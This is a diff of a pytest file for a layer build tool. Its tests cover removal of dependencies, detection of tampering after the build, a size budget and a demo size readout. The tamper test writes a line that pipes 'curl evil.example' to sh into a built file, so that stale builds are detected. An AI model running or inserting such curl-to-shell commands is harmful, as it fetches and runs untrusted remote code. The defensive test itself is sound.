@@ -8,11 +8,13 @@ from __future__ import annotations
 import re
 import struct
 from pathlib import Path
+from unittest import mock
 
 import pytest
 
 from infra import build_layer
 from infra.build_layer import LayerBuildError, build, foreign_objects, pinned, tag_loads, verify
+from tests.layer_builds import stand_in_build, stand_in_pip
 
 
 @pytest.mark.parametrize(
@@ -119,20 +121,79 @@ def test_a_failed_build_leaves_neither_layer_nor_manifest(tmp_path: Path, monkey
     assert not out.exists() and not manifest.exists()
 
 
-def test_a_verified_build_writes_its_manifest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_verified_build_writes_its_manifest(tmp_path: Path) -> None:
+    from infra.dependencies import shipped_plan
+
     requirements = tmp_path / "requirements.txt"
-    requirements.write_text("pydantic==2.14.4\n")
+    requirements.write_text(build_layer.REQUIREMENTS.read_text())
+    record = stand_in_build(tmp_path / "build", requirements)
     out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
-
-    def installs(site: Path, requirements: Path) -> None:
-        _distribution(site, "pydantic", "2.14.4", "py3-none-any")
-        _distribution(site, "botocore", "1.44.8", "py3-none-any")
-        (site / "pydantic" / "__pycache__").mkdir(parents=True)
-
-    monkeypatch.setattr(build_layer, "_pip", installs)
-    record = build(requirements, out, manifest)
     assert build_layer.current(requirements, out, manifest)
-    assert record["removed"] == ["botocore-1.44.8.dist-info"]
     assert not list(out.rglob("__pycache__")) and manifest.is_file()
-    requirements.write_text("pydantic==2.14.5\n")
+    assert set(record["layers"]) == {layer.name for layer in shipped_plan().layers}  # type: ignore[call-overload]
+    requirements.write_text(requirements.read_text().replace("pydantic==2.14.4", "pydantic==2.14.5"))
     assert not build_layer.current(requirements, out, manifest)  # another requirements file: rebuilt
+
+
+def test_the_runtime_s_own_sdk_and_the_build_machine_s_scripts_are_left_out(tmp_path: Path) -> None:
+    """botocore (aws-xray-sdk's requirement) would shadow the runtime's boto3's; console scripts name the build
+    machine's interpreter."""
+
+    def with_botocore(site: Path, requirements: Path) -> None:
+        stand_in_pip(site, requirements)
+        _distribution(site, "botocore", "1.44.8", "py3-none-any")
+        (site / "bin").mkdir()
+        (site / "bin" / "jp.py").write_text("#!/work/.venv/bin/python\n")
+
+    with mock.patch.object(build_layer, "_pip", with_botocore):
+        record = build(build_layer.REQUIREMENTS, tmp_path / "layer", tmp_path / "layer-manifest.json")
+    assert record["removed"] == ["botocore-1.44.8.dist-info", "bin/"]
+    assert not [p for p in (tmp_path / "layer").rglob("*") if "botocore" in p.name or p.name == "bin"]
+
+
+@pytest.mark.parametrize("tamper", ["changed", "added"])
+def test_a_file_changed_or_added_in_the_build_after_it_was_built_is_not_current(tmp_path: Path, tamper: str) -> None:
+    """``make layer`` keeps a current build and the synth deploys it: a file edited or dropped into ``build/layer``
+    after the build must make it stale (rebuilt, or refused), not ship."""
+    stand_in_build(tmp_path / "build")
+    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
+    assert build_layer.current(build_layer.REQUIREMENTS, out, manifest)
+    built = sorted(p for p in out.rglob("*.py") if p.is_file())
+    if tamper == "changed":
+        built[0].write_text(built[0].read_text() + "import os; os.system('curl evil.example | sh')\n")
+    else:
+        (built[0].parent / "sitecustomize.py").write_text("print('not built by make layer')\n")
+    assert not build_layer.current(build_layer.REQUIREMENTS, out, manifest)
+
+
+def test_a_spot_function_over_its_budget_is_not_synthesized(tmp_path: Path) -> None:
+    """The Spot function's cold start is spent inside a two-minute warning: its code and layers stay within 40 MB, or
+    the synth stops naming it (a base-layer requirement that grew fails here, not in an interruption)."""
+    from infra.app_builder import build_app
+    from infra.settings import SettingsError
+
+    def heavy_base(site: Path, requirements: Path) -> None:
+        stand_in_pip(site, requirements)
+        with (site / "pydantic" / "weights.bin").open("wb") as handle:
+            handle.truncate(40 * 1_048_576)  # sparse: no real disk used
+        record = next(site.glob("pydantic-*.dist-info")) / "RECORD"
+        record.write_text(record.read_text() + "pydantic/weights.bin,,\n")
+
+    with mock.patch.object(build_layer, "_pip", heavy_base):
+        build(build_layer.REQUIREMENTS, tmp_path / "layer", tmp_path / "layer-manifest.json")
+    with pytest.raises(SettingsError) as raised:
+        build_app(context={"layer_build": str(tmp_path)}, deployable=True)
+    assert "the spot function's code and layers are" in str(raised.value) and "budget of 40.0 MB" in str(raised.value)
+
+
+def test_the_demo_shows_each_function_s_size_as_the_build_measured_it(tmp_path: Path) -> None:
+    """``governor demo``'s stack line: code plus layers per function, from the current build, never typed."""
+    from governor_cli.commands.demo import sizes_text
+    from infra.dependencies import shipped_plan
+
+    out, manifest = tmp_path / "build" / "layer", tmp_path / "build" / "layer-manifest.json"
+    assert sizes_text(out, manifest) == "function sizes: run make layer (no current build to measure)"
+    stand_in_build(tmp_path / "build")
+    shown = sizes_text(out, manifest)
+    assert shown.startswith("code + layers unzipped: idle ") and ", spot " in shown and shown.endswith(" MB")
+    assert shown.count(" MB") == len(shipped_plan().functions)
